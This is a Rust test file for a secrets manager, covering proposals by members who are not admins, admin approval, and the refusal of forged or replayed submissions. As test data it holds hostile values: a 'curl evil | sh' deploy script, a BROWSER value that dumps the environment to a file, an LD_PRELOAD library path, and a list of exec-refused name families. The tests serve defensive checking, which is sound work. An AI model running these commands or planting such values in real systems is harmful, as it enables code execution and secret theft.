//! Proposals by members who are not admins (ADR 0014): `set`/`unset`/
//! `edit`/`import` by such a member write a draft encrypted to the admins
//! who read the environment and to no one else; `submit` sends it as a
//! branch; `approve` by an admin checks it, re-encrypts the values itself
//! to the current readers and signs. Forged and overreaching submissions,
//! and ones that would overwrite a newer value, are refused with nothing
//! changed; a stale registry copy never makes a removed admin a recipient.
//!
//! Real git, real `age`: a missing tool fails the test.

use std::fs;
use std::path::Path;
use std::process::Output;

use crate::common::*;

/// alice (admin) with prod {DB, API} and staging {DB}, plus bob, a member
/// who reads both environments and is not an admin (counter 5).
fn member_world() -> (World, Person) {
    let w = World::with_secrets();
    let bob = keygen(&w.root, "bob");
    let o = w.rotate(&["--add", &format!("bob={}", bob.recipient)]);
    assert_ok(&o, "rotate --add bob");
    (w, bob)
}

fn as_with_stdin(w: &World, p: &Person, args: &[&str], stdin: &str) -> Output {
    run_env(&p.home, &w.proj, args, Some(stdin), &anchor_env(w))
}

fn branches(w: &World, dir: &Path, prefix: &str) -> Vec<String> {
    w.git_ok(
        dir,
        &[
            "for-each-ref",
            "--format=%(refname:short)",
            &format!("refs/heads/{prefix}"),
        ],
    )
    .lines()
    .map(str::to_string)
    .collect()
}

fn approve(w: &World, branch: &str) -> Output {
    w.alice_run(&["approve", branch, "--yes"])
}

/// bob proposes prod DB = `value` and submits; returns the branch.
fn bob_submits(w: &World, bob: &Person, value: &str) -> String {
    let o = as_with_stdin(w, bob, &["set", "prod", "DB"], &format!("{value}\n"));
    assert_ok(&o, "bob set (a proposal)");
    let before = branches(w, &w.proj, "byreis/submit/");
    let o = w.run_as(bob, &["submit"]);
    assert_ok(&o, "bob submit");
    let new: Vec<String> = branches(w, &w.proj, "byreis/submit/")
        .into_iter()
        .filter(|b| !before.contains(b))
        .collect();
    assert_eq!(new.len(), 1, "{new:?}\n{}", dump(&o));
    new[0].clone()
}

/// A proposal file's plaintext as byreis writes it (ADR 0014).
fn plaintext(author: &str, env: &str, counter: u64, to: &[&str], set: &[(&str, &str)]) -> String {
    let mut s = format!(
        "format: byreis-submission/1\nproject: demo\nauthor: {author}\nenvironment: {env}\nbase-counter: {counter}\nroster-version: 1\nencrypted-to:\n"
    );
    for t in to {
        s.push_str(&format!("- {t}\n"));
    }
    s.push_str("created: 2026-11-23T00:00:00Z\n---\n");
    for (k, v) in set {
        s.push_str(&format!("{k}: \"{v}\"\n"));
    }
    s
}

/// Commits `files` on a new branch `branch` whose parent is `base`, with
/// the stock git CLI (as anyone with push access could).
fn forge_branch(w: &World, branch: &str, base: &str, files: &[(&str, &[u8])]) {
    let tree = w.root.join("forge");
    w.git_ok(
        &w.proj,
        &[
            "worktree",
            "add",
            "-q",
            "--detach",
            tree.to_str().unwrap(),
            base,
        ],
    );
    for (path, bytes) in files {
        let p = tree.join(path);
        fs::create_dir_all(p.parent().unwrap()).unwrap();
        fs::write(&p, bytes).unwrap();
    }
    w.git_ok(&tree, &["add", "-A"]);
    w.git_ok(
        &tree,
        &[
            "-c",
            "user.name=mallory",
            "-c",
            "user.email=m@example.test",
            "-c",
            "commit.gpgsign=false",
            "commit",
            "-q",
            "--no-verify",
            "-m",
            "forged",
        ],
    );
    w.git_ok(&tree, &["branch", branch, "HEAD"]);
    w.git_ok(
        &w.proj,
        &["worktree", "remove", "--force", tree.to_str().unwrap()],
    );
}

/// An approval refused with `needle` in its message and nothing moved.
#[track_caller]
fn assert_refused_unchanged(w: &World, branch: &str, needle: &str, what: &str) {
    let before = w.heads();
    let o = approve(w, branch);
    assert_failed(&o, what);
    assert_stderr_contains(&o, needle, what);
    assert_eq!(w.heads(), before, "{what}: nothing moved");
    assert_eq!(w.project_status(), "", "{what}: clean tree");
}

#[test]
fn a_member_proposes_and_an_admin_applies_it() {
    let (w, bob) = member_world();
    let heads = w.heads();
    // A member's `set` is a proposal: nothing of the signed state moves.
    let o = as_with_stdin(&w, &bob, &["set", "prod", "DB"], "from-bob-7d1\n");
    assert_ok(&o, "bob set prod DB");
    assert_stderr_contains(&o, "you are not an admin, so this is a proposal", "bob set");
    assert_stderr_contains(
        &o,
        "encrypted only to the admins who read it (alice)",
        "bob set",
    );
    assert_no_leak(&o, &["from-bob-7d1"], "bob set");
    assert_eq!(w.heads(), heads, "no signed state moved");
    assert_eq!(w.project_status(), "", "the working tree is untouched");
    w.assert_get("prod", "DB", PROD_DB);
    let o = w.run_as(&bob, &["get", "prod", "DB"]);
    assert_eq!(
        stdout(&o),
        format!("{PROD_DB}\n"),
        "get serves the signed value"
    );

    // The draft file: for alice only (one stanza), not for its own author.
    let file = w.git_blob("byreis/draft/bob", ".byreis/proposals/bob/001-prod.age");
    assert_eq!(real_stanza_count(&file), 1);
    let o = w.age_decrypt_bytes(&identity_file(&bob), &file);
    assert_failed(&o, "bob cannot read his own proposal (it is for admins)");
    let o = w.age_decrypt_bytes(&identity_file(&w.alice), &file);
    assert_ok(&o, "stock age -d as alice");
    assert!(stdout(&o).contains("from-bob-7d1"), "{}", dump(&o));

    // Two more changes in the same draft, then submit.
    let o = w.run_as(&bob, &["unset", "staging", "DB"]);
    assert_ok(&o, "bob unset staging DB");
    let o = as_with_stdin(&w, &bob, &["set", "prod", "NEW_KEY"], "new-9c2\n");
    assert_ok(&o, "bob set prod NEW_KEY");
    assert_stderr_contains(&o, "holds 3 change(s)", "draft count");
    let o = w.run_as(&bob, &["submit"]);
    assert_ok(&o, "bob submit");
    assert_stderr_contains(&o, "submitted 3 change(s)", "submit");
    assert!(
        branches(&w, &w.proj, "byreis/draft/").is_empty(),
        "draft removed"
    );
    let branch = branches(&w, &w.proj, "byreis/submit/")[0].clone();
    assert!(branch.starts_with("byreis/submit/bob-"), "{branch}");
    let o = w.run_as(&bob, &["submit"]);
    assert_failed(&o, "nothing left to submit");
    assert_stderr_contains(&o, "you have no draft", "second submit");

    // alice applies it: names shown, values masked.
    let counter = w.manifest_counter();
    let o = approve(&w, &branch);
    assert_ok(&o, "alice approve the submission");
    assert_stderr_contains(&o, "prod: added: NEW_KEY", "approve shows names");
    assert_stderr_contains(&o, "prod: changed: DB", "approve shows names");
    assert_stderr_contains(&o, "staging: removed: DB", "approve shows names");
    assert_no_leak(&o, &["from-bob-7d1", "new-9c2"], "values masked");
    assert_eq!(w.manifest_counter(), counter + 1, "one signed change");
    w.assert_get("prod", "DB", "from-bob-7d1");
    w.assert_get("prod", "NEW_KEY", "new-9c2");
    let o = w.alice_run(&["get", "staging", "DB"]);
    assert_failed(&o, "staging DB removed");
    let o = w.run_as(&bob, &["get", "prod", "DB"]);
    assert_eq!(stdout(&o), "from-bob-7d1\n", "bob reads the applied value");
    // Re-encrypted by alice to the current readers (alice, bob).
    assert_eq!(
        real_stanza_count(&fs::read(w.secrets_file("prod")).unwrap()),
        2
    );
    let a = w.last_audit();
    assert_eq!(a["action"], "approve-submission", "{a}");
    assert_eq!(a["details"]["submitted_by"], "bob", "{a}");
    assert_eq!(a["details"]["submission"], branch.as_str(), "{a}");
    assert!(
        branches(&w, &w.proj, "byreis/submit/").is_empty(),
        "branch removed"
    );
    let o = w.verify_commit(&w.proj, "HEAD");
    assert_ok(&o, "git verify-commit of the applied change");
    let (o, v) = doctor_json(&w.alice.home, &w.proj, &[]);
    assert_doctor_ok(&o, &v, "doctor after approve");
}

#[test]
fn members_edit_import_and_discard_drafts() {
    let (w, bob) = member_world();
    let editor = w.root.join("ed.sh");
    write_script(
        &editor,
        "#!/bin/sh\nsed -i 's/^API: .*/API: \"edited-41f\"/' \"$1\"\n",
    );
    let bob_edits_prod = || {
        run_env(
            &bob.home,
            &w.proj,
            &["edit", "prod"],
            None,
            &[
                ("BYREIS_ANCHOR", w.anchor.as_str()),
                ("EDITOR", editor.to_str().unwrap()),
            ],
        )
    };
    assert_ok(&bob_edits_prod(), "bob edit prod");
    let import = w.root.join("imp.yaml");
    fs::write(&import, "staging:\n  EXTRA: \"imp-5a0\"\n").unwrap();
    let o = w.run_as(&bob, &["import", import.to_str().unwrap()]);
    assert_ok(&o, "bob import");
    assert_stderr_contains(&o, "holds 2 change(s)", "import adds to the draft");
    let o = w.run_as(&bob, &["submit", "--discard"]);
    assert_ok(&o, "discard");
    assert_stderr_contains(&o, "dropped your draft (2 change(s))", "discard");
    assert!(
        branches(&w, &w.proj, "byreis/").is_empty(),
        "no branch left"
    );

    // Again, submitted and applied.
    assert_ok(&bob_edits_prod(), "bob edit prod again");
    let o = w.run_as(&bob, &["import", import.to_str().unwrap()]);
    assert_ok(&o, "bob import again");
    assert_ok(&w.run_as(&bob, &["submit"]), "submit");
    let branch = branches(&w, &w.proj, "byreis/submit/")[0].clone();
    assert_ok(&approve(&w, &branch), "approve");
    w.assert_get("prod", "API", "edited-41f");
    w.assert_get("prod", "DB", PROD_DB);
    w.assert_get("staging", "EXTRA", "imp-5a0");

    // Someone who is not a member proposes nothing.
    let eve = keygen(&w.root, "eve");
    let o = as_with_stdin(&w, &eve, &["set", "prod", "DB"], "x\n");
    assert_failed(&o, "a non-member set");
    assert_stderr_contains(&o, "not a member of project demo", "non-member");
    assert!(branches(&w, &w.proj, "byreis/").is_empty());
}

#[test]
fn a_member_who_cannot_read_an_environment_may_only_add_to_it() {
    let w = World::with_secrets();
    let bob = keygen(&w.root, "bob");
    let o = w.rotate(&[
        "--add",
        &format!("bob={}", bob.recipient),
        "--env",
        "staging",
    ]);
    assert_ok(&o, "rotate --add bob --env staging");
    let o = w.run_as(&bob, &["unset", "prod", "DB"]);
    assert_failed(&o, "unset where bob cannot read");
    assert_stderr_contains(&o, "you do not read prod", "unset blind");
    let o = as_with_stdin(&w, &bob, &["set", "prod", "DB"], "blind-3e1\n");
    assert_ok(&o, "a write-only proposal");
    assert_ok(&w.run_as(&bob, &["submit"]), "submit");
    let branch = branches(&w, &w.proj, "byreis/submit/")[0].clone();
    let o = approve(&w, &branch);
    assert_ok(&o, "approve");
    assert_stderr_contains(&o, "bob could not read it", "approve says so");
    w.assert_get("prod", "DB", "blind-3e1");
    let o = w.run_as(&bob, &["get", "prod", "DB"]);
    assert_refused(
        &o,
        &["identity-not-recipient"],
        "bob still cannot read prod",
    );
    assert_no_leak(&o, &["blind-3e1"], "bob get prod");

    // A hand-made file in which bob, who does not read prod, removes a
    // value: whether he reads prod comes from the manifest, not his file.
    let head = w.git_ok(&w.proj, &["rev-parse", "HEAD"]);
    let text = plaintext("bob", "prod", w.manifest_counter(), &["alice"], &[])
        .replace("---\n", "unset:\n- API\n---\n{}\n");
    let file = w.age_encrypt(&text, &[&w.alice.recipient]);
    forge_branch(
        &w,
        "byreis/submit/bob-00006666",
        &head,
        &[(".byreis/proposals/bob/001-prod.age", &file)],
    );
    assert_refused_unchanged(
        &w,
        "byreis/submit/bob-00006666",
        "bob does not read prod, so can only set values there",
        "a blind removal",
    );
    w.assert_get("prod", "API", PROD_API);
}

/// Issue 13 item 4, the attack: dave, a member who cannot read prod,
/// submits BROWSER and PYTHONWARNINGS to prod (names that make programs
/// run code), and replaces DB. The approving admin sees each name flagged
/// on both counts, exec refuses, and each name dave set blind is flagged
/// even where no exec family refuses it. Once approved, `exec prod` still
/// runs nothing while those names are set.
#[test]
fn a_blind_member_adding_exec_family_names_is_flagged_on_both_counts() {
    let w = World::with_secrets();
    let dave = keygen(&w.root, "dave");
    let o = w.rotate(&[
        "--add",
        &format!("dave={}", dave.recipient),
        "--env",
        "staging",
    ]);
    assert_ok(&o, "rotate --add dave --env staging");
    for (name, value) in [
        ("BROWSER", "sh -c 'env > /tmp/dave'"),
        ("PYTHONWARNINGS", "ignore::UserWarning:evil"),
        ("EXTRA_URL", "https://dave.example"),
        ("DB", "postgres://dave.example/x"),
    ] {
        let o = as_with_stdin(&w, &dave, &["set", "prod", name], &format!("{value}\n"));
        assert_ok(&o, &format!("dave set prod {name}"));
        let warns = stderr(&o).contains(&format!("`byreis exec prod` will refuse {name}"));
        assert_eq!(
            warns,
            name == "BROWSER" || name == "PYTHONWARNINGS",
            "{name}: {}",
            dump(&o)
        );
    }
    assert_ok(&w.run_as(&dave, &["submit"]), "dave submit");
    let branch = branches(&w, &w.proj, "byreis/submit/")[0].clone();
    let o = approve(&w, &branch);
    assert_ok(&o, "alice approves");
    let err = stderr(&o);
    assert_stderr_contains(
        &o,
        "prod: added: BROWSER, EXTRA_URL, PYTHONWARNINGS",
        "names",
    );
    assert_stderr_contains(&o, "prod: changed: DB", "names");
    for (name, family) in [("BROWSER", "*BROWSER"), ("PYTHONWARNINGS", "PYTHON*")] {
        assert_stderr_contains(
            &o,
            &format!("prod: FLAGGED {name}: exec refuses it (family {family}: "),
            &format!("{name} flagged: exec refuses it"),
        );
    }
    for name in ["BROWSER", "PYTHONWARNINGS", "EXTRA_URL"] {
        assert_stderr_contains(
            &o,
            &format!("prod: FLAGGED {name}: added by dave, who cannot read prod: dave cannot see what the other values are"),
            &format!("{name} flagged: added blind"),
        );
    }
    assert_stderr_contains(
        &o,
        "prod: FLAGGED DB: replaced by dave, who cannot read prod",
        "DB flagged: replaced blind",
    );
    assert!(
        !err.contains("FLAGGED EXTRA_URL: exec refuses") && !err.contains("FLAGGED DB: exec"),
        "only names exec refuses are flagged as such:\n{err}"
    );
    assert_no_leak(
        &o,
        &["env > /tmp/dave", "dave.example", "evil"],
        "values masked",
    );
    // Applied (the admin said yes), exec still passes none of it.
    let marker = w.root.join("exec-ran");
    let o = w.alice_run(&[
        "exec",
        "prod",
        "--",
        "sh",
        "-c",
        &format!("touch '{}'", marker.display()),
    ]);
    assert_failed(&o, "exec prod after the approval");
    assert_stderr_contains(&o, "BROWSER (family *BROWSER", "exec names BROWSER");
    assert_stderr_contains(
        &o,
        "PYTHONWARNINGS (family PYTHON*",
        "exec names PYTHONWARNINGS",
    );
    assert!(!marker.exists(), "exec ran the child");
}

#[test]
fn forged_and_overreaching_submissions_are_refused() {
    let (w, bob) = member_world();
    let (mallory_key, mallory) = age_keygen(&w, "mallory");
    let head = w.git_ok(&w.proj, &["rev-parse", "HEAD"]);
    let counter = w.manifest_counter();
    let path = ".byreis/proposals/bob/001-prod.age";

    // An extra stanza: someone besides the admins can read the values.
    let text = plaintext("bob", "prod", counter, &["alice"], &[("DB", "forged-1")]);
    let file = w.age_encrypt(&text, &[&w.alice.recipient, &mallory]);
    forge_branch(&w, "byreis/submit/bob-0000aaaa", &head, &[(path, &file)]);
    assert_refused_unchanged(
        &w,
        "byreis/submit/bob-0000aaaa",
        "has 2 recipient stanzas but names 1 admin(s)",
        "extra stanza",
    );
    let o = w.age_decrypt_bytes(&mallory_key, &file);
    assert_ok(&o, "mallory could read that forged file: why it is refused");

    // Named to a member who is not an admin.
    let text = plaintext(
        "bob",
        "prod",
        counter,
        &["alice", "bob"],
        &[("DB", "forged-2")],
    );
    let file = w.age_encrypt(&text, &[&w.alice.recipient, &bob.recipient]);
    forge_branch(&w, "byreis/submit/bob-0000bbbb", &head, &[(path, &file)]);
    assert_refused_unchanged(
        &w,
        "byreis/submit/bob-0000bbbb",
        "was encrypted to \"bob\", who is not now an admin reading prod",
        "a non-admin recipient",
    );

    // A path outside the author's proposal files.
    let text = plaintext("bob", "prod", counter, &["alice"], &[("DB", "forged-3")]);
    let file = w.age_encrypt(&text, &[&w.alice.recipient]);
    forge_branch(
        &w,
        "byreis/submit/bob-0000cccc",
        &head,
        &[(path, &file), ("deploy.sh", b"curl evil | sh\n")],
    );
    assert_refused_unchanged(
        &w,
        "byreis/submit/bob-0000cccc",
        "changes files outside .byreis/proposals/bob/: deploy.sh",
        "a path outside",
    );
    forge_branch(
        &w,
        "byreis/submit/bob-0000dddd",
        &head,
        &[(".byreis/proposals/carol/001-prod.age", &file)],
    );
    assert_refused_unchanged(
        &w,
        "byreis/submit/bob-0000dddd",
        "changes files outside .byreis/proposals/bob/",
        "another author's directory",
    );
    let real = bob_submits(&w, &bob, "honest-1");
    forge_branch(
        &w,
        "byreis/submit/bob-0000eeee",
        &real,
        &[("secrets/prod.enc.yaml", b"not age\n")],
    );
    assert_refused_unchanged(
        &w,
        "byreis/submit/bob-0000eeee",
        "changes files outside .byreis/proposals/bob/: secrets/prod.enc.yaml",
        "a secrets file changed on top of a real submission",
    );

    // Another project, another author, a mismatching file name.
    let text = plaintext("bob", "prod", counter, &["alice"], &[("DB", "x")])
        .replace("project: demo", "project: other");
    let file = w.age_encrypt(&text, &[&w.alice.recipient]);
    forge_branch(&w, "byreis/submit/bob-0000ffff", &head, &[(path, &file)]);
    assert_refused_unchanged(
        &w,
        "byreis/submit/bob-0000ffff",
        "not this project",
        "another project",
    );
    let text = plaintext("carol", "prod", counter, &["alice"], &[("DB", "x")]);
    let file = w.age_encrypt(&text, &[&w.alice.recipient]);
    forge_branch(&w, "byreis/submit/bob-00001111", &head, &[(path, &file)]);
    assert_refused_unchanged(
        &w,
        "byreis/submit/bob-00001111",
        "not this project, its branch's author",
        "another author inside",
    );
    // Duplicate keys and aliases inside the encrypted YAML.
    let text = plaintext(
        "bob",
        "prod",
        counter,
        &["alice"],
        &[("DB", "x"), ("DB", "y")],
    );
    let file = w.age_encrypt(&text, &[&w.alice.recipient]);
    forge_branch(&w, "byreis/submit/bob-00002222", &head, &[(path, &file)]);
    assert_refused_unchanged(
        &w,
        "byreis/submit/bob-00002222",
        "duplicate",
        "duplicate key",
    );
    // A name exec refuses is flagged, not hidden.
    let text = plaintext(
        "bob",
        "prod",
        counter,
        &["alice"],
        &[("LD_PRELOAD", "/tmp/x.so")],
    );
    let file = w.age_encrypt(&text, &[&w.alice.recipient]);
    forge_branch(&w, "byreis/submit/bob-00003333", &head, &[(path, &file)]);
    let o = w.alice_run(&["approve", "byreis/submit/bob-00003333"]);
    assert_failed(&o, "non-interactive approve without --yes");
    assert_stderr_contains(
        &o,
        "prod: FLAGGED LD_PRELOAD: exec refuses it (family LD_*: ",
        "flagged",
    );
    // bob reads prod: the name is not flagged as a blind addition.
    assert!(!stderr(&o).contains("who cannot read"), "{}", dump(&o));

    // An author who is not a member (anyone who can push a branch can
    // name one).
    let text = plaintext("zed", "prod", counter, &["alice"], &[("DB", "x")]);
    let file = w.age_encrypt(&text, &[&w.alice.recipient]);
    forge_branch(
        &w,
        "byreis/submit/zed-00004444",
        &head,
        &[(".byreis/proposals/zed/001-prod.age", &file)],
    );
    assert_refused_unchanged(
        &w,
        "byreis/submit/zed-00004444",
        "\"zed\" is not a member",
        "non-member",
    );

    // Not a submission branch name at all.
    let o = approve(&w, "byreis/submit/../../main");
    assert_failed(&o, "bad branch name");
    assert_stderr_contains(&o, "is not a submission branch", "bad name");

    // After all that, the honest one still applies.
    let applied = w.git_blob(&real, path);
    assert_ok(&approve(&w, &real), "the real submission");
    w.assert_get("prod", "DB", "honest-1");

    // Its file again, under another branch name, after the value moved
    // on: a replay, refused (the signed audit entry lists applied files).
    w.set("prod", "DB", "newer-by-alice");
    let head = w.git_ok(&w.proj, &["rev-parse", "HEAD"]);
    forge_branch(&w, "byreis/submit/bob-00005555", &head, &[(path, &applied)]);
    assert_refused_unchanged(
        &w,
        "byreis/submit/bob-00005555",
        "was already applied at counter",
        "a replayed submission file",
    );
    w.assert_get("prod", "DB", "newer-by-alice");
}

#[test]
fn a_value_changed_since_the_proposal_is_not_overwritten() {
    let (w, bob) = member_world();
    let branch = bob_submits(&w, &bob, "bobs-idea");
    w.set("prod", "DB", "alices-newer");
    assert_refused_unchanged(
        &w,
        &branch,
        "DB in prod changed since bob proposed this",
        "conflict",
    );
    w.assert_get("prod", "DB", "alices-newer");
    // A change to another name does not block it.
    let (w, bob) = member_world();
    let branch = bob_submits(&w, &bob, "bobs-idea");
    w.set("prod", "API", "api-2");
    assert_ok(&approve(&w, &branch), "approve after an unrelated change");
    w.assert_get("prod", "DB", "bobs-idea");
    w.assert_get("prod", "API", "api-2");
}

#[test]
fn an_approval_killed_before_removing_the_branch_is_finished_by_the_next() {
    let (w, bob) = member_world();
    let branch = bob_submits(&w, &bob, "once-only");
    let tip = w.git_ok(&w.proj, &["rev-parse", &branch]);
    assert_ok(&approve(&w, &branch), "approve");
    let counter = w.manifest_counter();
    // As if the approval was killed after landing, before the branch went.
    w.git_ok(&w.proj, &["branch", &branch, &tip]);
    let o = approve(&w, &branch);
    assert_ok(&o, "approve again");
    assert_stderr_contains(&o, &format!("was applied at counter {counter}"), "again");
    assert_eq!(w.manifest_counter(), counter, "nothing applied twice");
    assert!(
        branches(&w, &w.proj, "byreis/submit/").is_empty(),
        "branch removed"
    );
}

#[test]
fn a_stale_registry_copy_does_not_leak_to_a_removed_admin() {
    let w = World::new();
    let url = w.bare_registry_url();
    let proj = w.root.join("urlproj");
    fs::create_dir(&proj).unwrap();
    w.git_ok(&proj, &["init", "-q", "-b", "main"]);
    let alice = |args: &[&str], stdin: Option<&str>| run(&w.alice.home, &proj, args, stdin);
    assert_ok(
        &alice(&["init", "--project", "urlproj", "--registry", &url], None),
        "init on a URL registry",
    );
    assert_ok(&alice(&["set", "prod", "DB", "v1"], None), "set");
    let dave = keygen(&w.root, "dave");
    let bob = keygen(&w.root, "bob");
    let o = alice(&admin_add_args(&dave), None);
    assert_ok(&o, "admin add dave");
    let o = alice(
        &[
            "rotate",
            "--add",
            &format!("dave={}", dave.recipient),
            "--add",
            &format!("bob={}", bob.recipient),
            "--yes",
        ],
        None,
    );
    assert_ok(&o, "rotate --add dave bob");
    // bob's clone and registry copy, current now.
    let clone = clone_and_trust(&w, &proj, &bob);
    // dave leaves: removed as admin and as reader. bob's copies are stale.
    assert_ok(
        &alice(&["admin", "remove", "dave"], None),
        "admin remove dave",
    );
    let o = alice(&["rotate", "--remove", "dave", "--yes"], None);
    assert_ok(&o, "rotate --remove dave");
    w.git_ok(&clone, &["pull", "-q", "--ff-only"]);

    // bob proposes: byreis fetches the registry first, so dave is not a
    // recipient although bob's copy still listed him as an admin.
    let o = run(
        &bob.home,
        &clone,
        &["set", "prod", "DB"],
        Some("after-dave-8b7\n"),
    );
    assert_ok(&o, "bob set (a proposal)");
    assert_stderr_contains(
        &o,
        "encrypted only to the admins who read it (alice)",
        "only alice",
    );
    let file = w
        .git(
            &clone,
            &[
                "cat-file",
                "blob",
                "byreis/draft/bob:.byreis/proposals/bob/001-prod.age",
            ],
        )
        .stdout;
    assert_eq!(real_stanza_count(&file), 1);
    let o = w.age_decrypt_bytes(&identity_file(&dave), &file);
    assert_failed(&o, "dave cannot read bob's proposal");
    assert_no_leak(&o, &["after-dave-8b7"], "dave");

    // Applied by alice: the landed file is for alice and bob, not dave.
    let o = run(&bob.home, &clone, &["submit"], None);
    assert_ok(&o, "bob submit");
    let branch = branches(&w, &clone, "byreis/submit/")[0].clone();
    w.git_ok(
        &proj,
        &[
            "fetch",
            "-q",
            clone.to_str().unwrap(),
            &format!("{branch}:{branch}"),
        ],
    );
    let o = run(&w.alice.home, &proj, &["approve", &branch, "--yes"], None);
    assert_ok(&o, "alice approve");
    let landed = fs::read(proj.join("secrets/prod.enc.yaml")).unwrap();
    let o = w.age_decrypt_bytes(&identity_file(&dave), &landed);
    assert_failed(&o, "dave cannot read the applied value");
    let o = w.age_decrypt_bytes(&identity_file(&bob), &landed);
    assert!(stdout(&o).contains("after-dave-8b7"), "{}", dump(&o));

    // With the registry unreachable, a member's change is refused, not
    // encrypted to a possibly stale admin set.
    fs::rename(w.root.join("reg.git"), w.root.join("reg.gone")).unwrap();
    let o = run(&bob.home, &clone, &["set", "prod", "DB"], Some("offline\n"));
    assert_failed(&o, "set with the registry unreachable");
    assert_stderr_contains(&o, "needs a current copy (nothing was changed)", "offline");
    assert!(branches(&w, &clone, "byreis/draft/").is_empty());
}
